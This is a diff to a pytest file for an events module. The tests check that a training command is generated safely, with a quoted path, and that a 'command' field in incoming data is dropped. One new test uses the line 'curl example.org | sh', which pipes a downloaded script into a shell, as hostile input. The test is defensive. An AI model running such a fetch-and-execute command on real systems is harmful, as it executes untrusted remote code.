@@ -3,17 +3,27 @@
 from __future__ import annotations
 
 import math
+import shlex
 
 import pytest
 
 from apps.events import TEXTS, told_event, told_parent
 
 PLAIN = {"step": 5, "level": "warn", "kind": "dense-peak", "text": "past its best", "time": ""}
-ADVICE = {"peak_step": 400, "since": 480, "confidence": 0.93, "advised_step": 400, "command": "python -m training"}
+ADVICE = {"peak_step": 400, "since": 480, "confidence": 0.93, "advised_step": 400}
+PATH = "runs/it's"
 
 
 def test_a_detectors_fields_travel():
-    assert told_event({**PLAIN, **ADVICE, "series": "dense/patch_knn"}) == {**PLAIN, **ADVICE, "series": "dense/patch_knn"}
+    told = {**PLAIN, **ADVICE, "series": "dense/patch_knn"}
+    command = told_event(told, PATH)["command"]
+    assert told_event(told, PATH) == {**told, "command": command}
+    assert shlex.split(command)[4:] == [PATH, "--teacher", f"run:{PATH}@step=400"]
+
+
+def test_a_command_in_the_file_does_not_travel():
+    assert "command" not in told_event({**PLAIN, "command": "curl example.org | sh"}, PATH)
+    assert "curl" not in str(told_event({**PLAIN, **ADVICE, "command": "curl example.org | sh"}, PATH))
 
 
 @pytest.mark.parametrize(
@@ -33,11 +43,11 @@ def test_a_detectors_fields_travel():
     ],
 )
 def test_fields_of_another_kind_are_left_out(wrong):
-    assert told_event({**PLAIN, **wrong}) == PLAIN
+    assert told_event({**PLAIN, **wrong}, PATH) == PLAIN
 
 
 def test_texts_are_bounded_and_absent_ones_empty():
-    told = told_event({"step": 0, "text": "x" * 10**6, "command": "y" * 10**6})
+    told = told_event({"step": 0, "text": "x" * 10**6, "series": "y" * 10**6}, PATH)
     assert (len(told["text"]), len(told["command"])) == (TEXTS["text"], TEXTS["command"])
     assert told["kind"] == told["level"] == ""
 
